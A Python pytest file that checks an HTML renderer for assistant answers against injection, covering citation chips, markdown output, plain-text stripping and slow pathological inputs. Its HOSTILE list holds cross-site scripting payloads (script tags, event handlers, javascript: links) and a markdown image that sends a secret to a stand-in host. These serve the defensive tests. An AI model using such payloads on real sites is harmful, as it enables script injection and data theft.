"""Stored answers as HTML: what a model or a document says cannot become markup of ours."""

from __future__ import annotations

import time

import pytest

from assistants.conversations.rendering import plain, render_answer

CITATION = {
    "number": 1,
    "document": "01930000-0000-7000-8000-000000000001",
    "title": 'a"><b>.pdf',
    "page": 7,
    "start": 3,
    "end": 9,
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.test/?q=SECRET)",
    "![x](data:text/html,1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.test)",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:1'>",
    "<iframe src=https://evil.test></iframe>",
    "<form action=https://evil.test><input></form>",
    "<a href='https://ok.test' style='position:fixed' onclick=x>y</a>",
    "```html\n</code></pre><script>1</script>\n```",
    "[a]: javascript:alert(1)\n\n[a]",
    "<https://ok.test/><javascript:alert(1)>",
    "| <script> |\n|---|\n| <b onmouseover=x> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    html = render_answer(text, [CITATION]).lower()

    for forbidden in (
        "<script",
        "<img",
        "<svg",
        "<math",
        "<iframe",
        "<form",
        "<input",
        "<b ",
        'href="javascript',
        'href="data',
        'href="//',
    ):
        assert forbidden not in html
    assert "style=" not in html.replace("style='", "")
    assert 'href="vbscript' not in html


def test_a_marker_becomes_a_chip_only_where_its_citation_is_there() -> None:
    html = render_answer("So it says [1], and more [2], `[1]`.", [CITATION])

    assert html.count('class="cite"') == 1
    assert 'data-cite="1"' in html
    assert "/documents/01930000-0000-7000-8000-000000000001/?start=3&amp;end=9" in html
    assert "[2]" in html
    assert "<b>" not in html


def test_markdown_keeps_its_shape() -> None:
    html = render_answer("# Title\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| x | 1 |\n\n[site](https://ok.test)", [])

    assert "<h2>Title</h2>" in html
    assert '<td class="num">1</td>' in html
    assert 'rel="external noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    ("piece", "text"),
    [
        ("The **élan** *vital*, ~~not~~ `code` and __more__ of _it_.", "The élan vital, not code and more of it."),
        ("## Notice\n\n- **three** months\n* six\n> quoted", "Notice\n\nthree months\nsix\nquoted"),
        ("| Name | Sum |\n|:---|---:|\n| Lease | 12 |", "Name  Sum\nLease  12"),
        ('See [the contract](https://example.test/a "t") and ![a plan](x.png) [1].', "See the contract and a plan [1]."),
        ("```python\nprint(1)\n```\nDone", "print(1)\nDone"),
        ("cut** short and | half a row |", "cut short and | half a row |"),
        ("2 * 3 * 4, snake_case_name, #tag, a | b, -1, 5*6*7", "2 * 3 * 4, snake_case_name, #tag, a | b, -1, 5*6*7"),
        (r"\*as it is\* and 1\. and \# here", "*as it is* and 1. and # here"),
        ("", ""),
    ],
)
def test_a_piece_of_an_answer_reads_without_signs(piece: str, text: str) -> None:
    assert plain(piece) == text


def test_a_hostile_piece_costs_nothing() -> None:
    for piece in (
        "*" * 5000,
        "[" * 5000,
        "|" * 5000,
        "![](" * 1000,
        "_a" * 2000,
        "`" * 5000,
        "\\" * 5000,
        "- " * 2000,
        "> " * 2000,
        "-" * 5000,
    ):
        began = time.perf_counter()
        plain(piece)
        assert time.perf_counter() - began < 0.05, piece[:10]
